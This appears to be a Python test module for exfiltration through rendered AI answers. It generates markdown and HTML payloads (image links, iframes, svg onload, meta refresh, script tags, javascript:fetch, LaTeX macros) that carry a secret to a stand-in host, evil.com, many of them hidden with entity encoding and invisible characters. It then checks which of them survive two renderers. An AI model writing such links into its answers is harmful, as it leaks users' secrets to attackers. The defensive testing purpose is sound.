"""Answers that would carry a secret away where they are rendered, and renderers that say whether one still does."""

import html
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import product

import comrak
from markdown_it import MarkdownIt

SECRET = "c2VjcmV0"
PLACES = (
    f"https://evil.com/?q={SECRET}",
    f"HTTP://evil.com/{SECRET}",
    f"//evil.com/{SECRET}",
    f"www.evil.com/{SECRET}",
    f"evil.com/{SECRET}",
    f"evil.com?q={SECRET}",
    f"evil.com:8080/{SECRET}",
    f"{SECRET}.evil.com",
    f"https://{SECRET}.evil.co.uk",
    f"https://user:{SECRET}@evil.com/",
    f"ftp://evil.com/{SECRET}",
    f"http://127.0.0.1/{SECRET}",
    f"http://[::1]/{SECRET}",
    f"//localhost/{SECRET}",
    f"https://xn--80ak6aa92e.com/{SECRET}",
    f"https://b\u00fccher.example/{SECRET}",
    f"https:\\\\evil.com\\{SECRET}",
    f"javascript:fetch('//evil.com/{SECRET}')",
    f"data:text/html;base64,{SECRET}",
    f"data:image/svg+xml,{SECRET}",
    f"mailto:x@evil.com?body={SECRET}",
    f"{SECRET}@evil.com",
    f"/logout?then={SECRET}",
)
SHAPES = (
    "![]({})",
    "![alt]({})",
    "![alt](<{}>)",
    '![alt]({} "title")',
    "![alt](\n{}\n)",
    "[text]({})",
    "[text](  {}  'title')",
    "[a [nested] text]({})",
    "[![alt]({0})]({0})",
    "[1]({})",
    "[\u200b]({})",
    "[text]\u200b({})",
    "[te\\]xt]({})",
    "**[text]({})**",
    "# [text]({})",
    "> - [text]({})",
    "| a |\n|---|\n| ![x]({}) |",
    "`code` ![x]({})",
    "``` ![x]({})",
    "![x][1]\n\n[1]: {}",
    "![x][]\n\n[x]: <{}> 'title'",
    "[x]\n\n[x]:\n{}",
    "See [x] [1].\n\n  [1]: {}",
    "[1]\n\n> [1]: {}",
    "[a\nb]\n\n[a\nb]: {}",
    "[y[^1]]\n\n[^1]: ![x]({})",
    "<{}>",
    "<\u200b{}>",
    "{}",
    "({})",
    "see {} now",
    "**{}**",
    '"{}"',
    "\u202e{}\u202c",
    '<img src="{}">',
    "<img src={} >",
    "<IMG/SRC='{}'/>",
    "<img\nsrc='{}'\n>",
    "<i\u200bmg src='{}'>",
    "x<img src='{}'",
    '<a href="{}">text</a>',
    '<iframe src="{}"></iframe>',
    "<svg><image href='{}'/></svg>",
    "<svg onload=\"location='{}'\">",
    "<p style=\"background:url('{}')\">x</p>",
    "<link rel=stylesheet href='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<form action='{}'><button>x</button></form>",
    "<video poster='{}'></video>",
    "<script src='{}'></script>",
    "<base href='{}'>",
    "<!-- x --><object data='{}'>",
    "<details ontoggle=\"fetch('{}')\" open>",
    "&lt;img src='{}'&gt;",
    "&#60;img src='{}'&#62;",
    "&#x3c;img src='{}'&#x3e;",
    "\\<a>\\\\<img src='{}'>",
)
_MACROS = ("$\\href{{{}}}{{x}}$", "\\(\\includegraphics{{{}}}\\)", "$$\\url{{{}}}$$", "$\\htmlStyle{{a:url({})}}{{x}}$")


def _plain(place: str) -> str:
    return place


def _decimal(place: str) -> str:
    return re.sub(r"[:/.@?#]", lambda found: f"&#{ord(found[0])};", place)


def _hexadecimal(place: str) -> str:
    return "".join(f"&#x{ord(character):x};" for character in place)


def _named(place: str) -> str:
    names = {":": "&colon;", "/": "&sol;", ".": "&period;", "@": "&commat;", "?": "&quest;"}
    return "".join(names.get(character, character) for character in place)


def _escaped(place: str) -> str:
    return re.sub(r"[:/.@?]", lambda found: f"\\{found[0]}", place)


def _percent(place: str) -> str:
    return place.replace("evil", "%65vil").replace("localhost", "%6cocalhost")


def _unseen(place: str) -> str:
    return re.sub(r"([:/.@])", "\u200b\\1\u2060", place)


def _smuggled(place: str) -> str:
    return place.replace("/", "/\u00ad\U000e0041").replace("s:", "s\u200d:").replace("w.", "w\ufe0f.")


ENCODINGS = (_plain, _decimal, _hexadecimal, _named, _escaped, _percent, _unseen, _smuggled)


def encodings() -> Iterator[str]:
    """Every shape around every place in every encoding; between words, as a model was led to write them."""
    for shape, place, encoded in product(SHAPES + _MACROS, PLACES, ENCODINGS):
        yield f"The notice period is 45 days [1].\n\n{shape.format(encoded(place))}\n"


# a name of two parts by itself, which renderers link without being told, and mail to a name of one: it goes nowhere
_BARE = re.compile(r"(?:(?:https?:)?//)?[^\s/.?#@:]+\.(?:[a-z]{2,}|xn--[\w-]+)/?|mailto:[^@]*@[^.@?]*", re.IGNORECASE)
_INERT = {"p", "br", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "table", "thead", "tbody"}
_INERT |= {"tr", "th", "td", "sup", "section", "a", "hr", "del", *(f"h{level}" for level in range(1, 7))}
_ATTRIBUTES = {"align", "href", "id", "class", "start", "data-footnote-ref", "data-footnotes", "data-footnote-backref"}
_ATTRIBUTES |= {"data-footnote-backref-idx", "aria-label"}
_PUNCTUATION = re.compile(r"\\([!-/:-@\[-`{-~])")


class _Live(HTMLParser):
    def __init__(self, allowed: frozenset[str]) -> None:
        super().__init__()
        self._allowed = allowed
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _INERT or {name for name, _ in attrs} - _ATTRIBUTES:
            self.found.append(f"<{tag} {attrs}>")
        target = dict(attrs).get("href") or ""
        if target and target not in self._allowed and not (target[0] == "#" or _BARE.fullmatch(target)):
            self.found.append(target)


def _commonmark() -> MarkdownIt:
    return MarkdownIt("gfm-like", {"html": True, "linkify": True})


def _github() -> tuple[comrak.ExtensionOptions, comrak.ParseOptions, comrak.RenderOptions]:
    extensions, parsing, rendering = comrak.ExtensionOptions(), comrak.ParseOptions(), comrak.RenderOptions()
    extensions.autolink = extensions.table = extensions.footnotes = extensions.strikethrough = True
    parsing.relaxed_autolinks = True
    rendering.unsafe_ = True
    return extensions, parsing, rendering


_MARKDOWN_IT, _COMRAK = _commonmark(), _github()


def live(text: str, *allowed: str) -> list[str]:
    """What two renderers make of `text` that links, loads or runs, also once it was decoded a time too often."""
    decoded = {text, html.unescape(text), _PUNCTUATION.sub(r"\1", text)}
    pages = [_MARKDOWN_IT.render(one) for one in decoded]
    pages += [comrak.render_markdown(one, *_COMRAK) for one in decoded]
    parser = _Live(frozenset(allowed))
    parser.feed("\n".join(pages))
    parser.close()
    return parser.found
